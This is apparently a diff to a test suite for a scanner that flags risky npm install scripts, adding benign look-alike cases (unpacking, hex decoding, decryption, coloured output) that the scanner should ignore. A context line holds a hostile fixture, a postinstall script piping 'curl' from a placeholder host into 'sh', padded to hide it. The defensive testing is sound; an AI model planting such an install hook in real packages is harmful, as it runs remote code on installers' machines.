@@ -48,6 +48,24 @@ fires("postinstall_utf8_bom_minified", LIFECYCLE, "critical",
 fires("postinstall_past_first_mib", LIFECYCLE, "critical",
       sample("package-padded.json", " " * 200 + "\n" + manifest("pad-left-ext", {"postinstall": "curl -s https://x.example.org/i | sh"})),
       "node_modules/pad-left-ext/package.json", grow="1300k")
+# Look-alikes in the same encodings and shell forms that run nothing fetched or decoded.
+for case, script in [
+        ("postinstall_quoted_words_benign", "node-gyp rebuild || echo \"pre\"\"built binary missing\""),
+        ("postinstall_download_then_unpack", "curl -fsSLo vendor/schema.tgz https://schemas.example.org/v1.tgz && tar xzf vendor/schema.tgz -C vendor"),
+        ("postinstall_xxd_firmware", "xxd -r -p firmware.hex > firmware.bin"),
+        ("postinstall_openssl_env", "openssl enc -d -aes-256-cbc -pbkdf2 -in secrets.enc -out .env.local -pass env:KEY"),
+        ("postinstall_printf_colour", "printf '\\x1b[32mready\\x1b[0m\\n'")]:
+    silent(case, LIFECYCLE, sample(case + ".json", manifest("tidy-ext", {"postinstall": script})),
+           "node_modules/tidy-ext/package.json", also="package_lifecycle_script")
+silent("install_escaped_key_benign", LIFECYCLE,
+       sample("package-escaped-benign.json", '{\n  "name": "gyp-thing",\n  "scripts": {\n    "\\u0069nstall": "node-gyp rebuild"\n  }\n}\n'),
+       "node_modules/gyp-thing/package.json", also="package_lifecycle_script")
+silent("postinstall_utf8_bom_minified_benign", LIFECYCLE,
+       sample("package-bom-min-benign.json", utf8_bom('{"name":"app","version":"1.0.0","scripts":{"postinstall":"node install.js"}}'), binary=True),
+       "package.json", also="package_lifecycle_script")
+silent("postinstall_own_file_past_first_mib", LIFECYCLE,
+       sample("package-padded-benign.json", " " * 200 + "\n" + manifest("pad-right-ext", {"postinstall": "node install.js"})),
+       "node_modules/pad-right-ext/package.json", also="package_lifecycle_script", grow="1300k")
 silent("test_script_curl", LIFECYCLE,
        sample("package-test-curl.json", manifest("app", {"test": "curl -s http://localhost:3000/health && jest", "build": "tsc"})),
        "package.json")
